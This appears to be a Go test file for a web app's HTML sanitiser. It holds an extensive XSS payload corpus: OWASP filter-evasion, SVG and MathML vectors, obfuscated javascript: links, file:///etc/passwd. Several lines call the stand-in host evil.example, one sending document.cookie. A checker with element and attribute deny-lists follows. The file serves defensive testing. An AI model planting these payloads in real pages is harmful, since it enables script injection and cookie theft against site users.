package hooks_test

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// xssCorpus: the OWASP XSS filter-evasion cheat sheet's vectors, SVG and MathML vectors,
// data:text/html, entity-encoded javascript:, mutation-XSS shapes and broken markup.
var xssCorpus = []string{
	// OWASP filter-evasion list
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://evil.example/xss.js?< B >`,
	`<SCRIPT SRC=//evil.example/.j>`,
	"<IMG SRC=\"`<javascript:alert>`('XSS')\"",
	`<iframe src=http://evil.example/scriptlet.html <`,
	`\";alert('XSS');//`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://evil.example/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>`,
	`<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
	`<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
	`<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
	`<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://evil.example/xss.js></SCRIPT>'"-->`,
	`<? echo('<SCR)';echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
	`<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
	`<SCRIPT a=">" SRC="httx://evil.example/xss.js"></SCRIPT>`,
	`<SCRIPT =">" SRC="httx://evil.example/xss.js"></SCRIPT>`,
	`<SCRIPT "a='>'" SRC="httx://evil.example/xss.js"></SCRIPT>`,
	"<SCRIPT a=`>` SRC=\"httx://evil.example/xss.js\"></SCRIPT>",
	`<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://evil.example/xss.js"></SCRIPT>`,
	`<A HREF="javascript:document.location='http://evil.example/'">XSS</A>`,
	// entity-encoded and obfuscated javascript:, other script schemes, data:text/html
	`<a href="jav&#x61;script:alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="javas&#99;ript:alert(1)">x</a>`,
	`<a href="&#x0001;javascript:alert(1)">x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<a href="  javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="livescript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<a href="http://evil.example/" ping="http://evil.example/ping">ping</a>`,
	`<img src="/x.png" srcset="javascript:alert(1) 1x">`,
	`<button form=x formaction=javascript:alert(1)>x</button>`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	// SVG vectors
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<svg><image href="javascript:alert(1)"/></svg>`,
	// MathML vectors
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">click</maction></math>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></form>`,
	`<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
	// event handlers and elements
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p style="background:url(https://evil.example/track.png)">x</p>`,
	`<template><script>alert(1)</script></template>`,
	`<base href="http://evil.example/">`,
	`<link rel="import" href="http://evil.example/x.html">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<img src=1 onerror=fetch('//evil.example/'+document.cookie)>`,
	// broken markup and context breakers
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<img src=x onerror=alert(1)//<`,
	`<img src=x onerror=alert(1)//`,
	`<div <img src=x onerror=alert(1)>`,
	`</p><script>alert(1)</script><p>`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`</textarea><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`--></script><script>alert(1)</script><!--`,
	`{{constructor.constructor('alert(1)')()}}`,
	`${alert(1)}`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`<a href="https://ok.example/" title="x" onclick="alert(1)">ok</a><p>unclosed <b>bold <i>both`,
}

// xssLinks are link values for the link fields; each is refused (400) or stored with a
// safe scheme.
var xssLinks = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
	"java\nscript:alert(1)", "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
	"vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"file:///etc/passwd", "//evil.example/x", `https://ok.example/"><script>alert(1)</script>`,
	"https://ok.example/' onmouseover='alert(1)", "http://ok.example/<img src=x onerror=alert(1)>",
}

var (
	dangerousElements = map[string]bool{
		"script": true, "style": true, "object": true, "embed": true, "base": true, "link": true, "meta": true,
		"form": true, "input": true, "button": true, "textarea": true, "select": true, "frame": true,
		"frameset": true, "svg": true, "math": true, "template": true, "applet": true, "bgsound": true,
		"audio": true, "keygen": true, "noscript": true, "xss": true, "body": true, "head": true,
	}
	urlAttrs        = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true, "poster": true, "cite": true, "background": true, "dynsrc": true, "lowsrc": true, "xlink:href": true, "srcset": true, "ping": true}
	allowedEmbedRe  = regexp.MustCompile(`^https://(www\.youtube\.com/embed/|www\.youtube-nocookie\.com/embed/|player\.vimeo\.com/video/)`)
	safeSchemeRe    = regexp.MustCompile(`^(https?|mailto|tel|sms):`)
	safeDataImageRe = regexp.MustCompile(`^data:image/(png|jpeg);`)
)

// unsafeHTML lists what would run script, load a foreign document or escape the fragment
// in a sanitised HTML fragment; nil when it is safe.
func unsafeHTML(fragment string) []string {
	var bad []string
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{err.Error()}
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			name := strings.ToLower(n.Data)
			if dangerousElements[name] || n.Namespace == "svg" || n.Namespace == "math" {
				bad = append(bad, "element <"+name+">")
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				val := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' || r == 0x7f {
						return -1
					}
					return r
				}, a.Val))
				switch {
				case strings.HasPrefix(key, "on"), key == "srcdoc", key == "formaction", key == "ping", key == "background", key == "dynsrc", key == "lowsrc":
					bad = append(bad, "attribute "+key+" on <"+name+">")
				case key == "style" && (strings.Contains(val, "url(") || strings.Contains(val, "expression") || strings.Contains(val, "javascript") || strings.Contains(val, "\\")):
					bad = append(bad, "style "+a.Val)
				case urlAttrs[key]:
					switch {
					case name == "iframe" && key == "src":
						if !allowedEmbedRe.MatchString(a.Val) {
							bad = append(bad, "iframe src "+a.Val)
						}
					case name == "img" && key == "src" && safeDataImageRe.MatchString(val):
					case strings.Contains(val, ":") && !safeSchemeRe.MatchString(val) && strings.Index(val, ":") < strings.IndexAny(val+"/", "/?#"):
						bad = append(bad, key+"="+a.Val+" on <"+name+">")
					}
				}
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}

// TestUnsafeHTMLDetects keeps the checker honest: it flags what it must.
func TestUnsafeHTMLDetects(t *testing.T) {
	for _, in := range []string{`<script>x</script>`, `<img src=x onerror=a()>`, `<a href="jav&#x61;script:a()">x</a>`,
		`<svg><a>x</a></svg>`, `<iframe src="https://evil.example/"></iframe>`, `<p style="background:url(x)">x</p>`,
		`<a href="data:text/html,x">x</a>`, `<img src="data:image/svg+xml,x">`} {
		if unsafeHTML(in) == nil {
			t.Errorf("not flagged: %s", in)
		}
	}
	for _, in := range []string{`<p>Hi <a href="https://ok.example/a?b:c">x</a> <img src="/api/files/x.png"> <img src="data:image/png;base64,AA=="></p>`,
		`<iframe src="https://www.youtube.com/embed/abc"></iframe>`, `<a href="mailto:a@b.c">m</a><a href="page#x:y">r</a>`} {
		if bad := unsafeHTML(in); bad != nil {
			t.Errorf("flagged %v: %s", bad, in)
		}
	}
}
